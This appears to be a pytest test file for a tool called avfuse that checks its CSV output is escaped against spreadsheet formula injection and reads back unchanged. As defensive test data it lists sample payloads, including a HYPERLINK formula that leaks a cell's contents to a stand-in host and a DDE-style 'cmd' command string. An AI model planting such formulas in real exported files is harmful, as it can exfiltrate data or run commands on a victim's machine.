"""Every CSV avfuse writes for people is safe to open in a spreadsheet: no text cell starts a
formula; where avfuse reads its CSVs back, the names come back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from avfuse.extract import ExtractConfig, extract
from avfuse.io import csv_cell, csv_uncell, write_csv
from avfuse.manifest import ScanConfig, scan
from avfuse.scores import ScoreFile
from avfuse.video_scores import read_one
from tests.media import write_tone_video

# What a spreadsheet runs: =, +, -, @ and, in some importers, a leading tab or carriage return.
HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]
HARMLESS = ["plain", "it's", "'quoted", "a=b", "", "x-y"]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _assert_inert(path: Path) -> None:
    bad = [c for c in _cells(path) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Numbers are not text cells: a negative score may start with "-".
    bad = [c for c in bad if not _is_number(c)]
    assert bad == [], path


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_cell_escaping_round_trips(text: str) -> None:
    cell = csv_cell(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert csv_uncell(cell) == text
    if text in HARMLESS:
        assert cell == text  # nothing to escape: written as it is


def test_write_csv_escapes_cells_and_headers_but_not_numbers(tmp_path: Path) -> None:
    df = pd.DataFrame({"=name": HOSTILE, "score": np.linspace(-1, 1, len(HOSTILE))})
    path = write_csv(df, tmp_path / "x.csv")
    _assert_inert(path)
    back = pd.read_csv(path, keep_default_na=False)
    assert [csv_uncell(c) for c in back.columns] == ["=name", "score"]
    assert [csv_uncell(v) for v in back.iloc[:, 0]] == HOSTILE
    assert np.allclose(back["score"], df["score"])


def test_score_csv_is_inert_and_reads_back_as_the_same_names(tmp_path: Path) -> None:
    classes = ['=HYPERLINK("http://evil","x")', "@cls", "plain"]
    ids = ["+cmd", "-abc_000001_000011", "val/a/x"]
    rng = np.random.default_rng(0)
    scores = rng.random((3, 3)).astype(np.float32)
    sf = ScoreFile(ids, classes, scores, np.ones(3), np.array(["ok"] * 3))
    path = sf.to_csv(tmp_path / "audio_val.csv")
    _assert_inert(path)
    back = read_one(path)
    assert back.ids == ids and back.classes == classes
    np.testing.assert_allclose(back.scores, scores, rtol=1e-5)


def test_extract_failures_and_scan_warnings_are_inert(tmp_path: Path) -> None:
    root = tmp_path / "data"
    write_tone_video(root / "train" / "a" / "x.mp4", duration=0.5, rate=16000, channels=1, fps=2)
    bad = root / "=1+1" / "a" / "@evil.mp4"  # a split named like a formula
    bad.parent.mkdir(parents=True)
    bad.write_bytes(b"not a video at all" * 100)
    (root / "+loose.mp4").write_bytes(b"x")  # outside any split: a scan warning
    work = tmp_path / "w"
    scan(ScanConfig(root=tmp_path / "data", work=work, splits=()))
    warn = work / "scan_warnings.csv"
    assert any(Path(c).name == "+loose.mp4" for c in map(csv_uncell, _cells(warn)))
    _assert_inert(warn)
    res = extract(ExtractConfig(work=work, num_workers=0, progress=False))
    assert res.counts.get("unreadable") == 1
    failures = work / "extract_failures.csv"
    _assert_inert(failures)
    ids = [csv_uncell(v) for v in pd.read_csv(failures, keep_default_na=False)["video_id"]]
    assert ids == ["=1+1/a/@evil"]
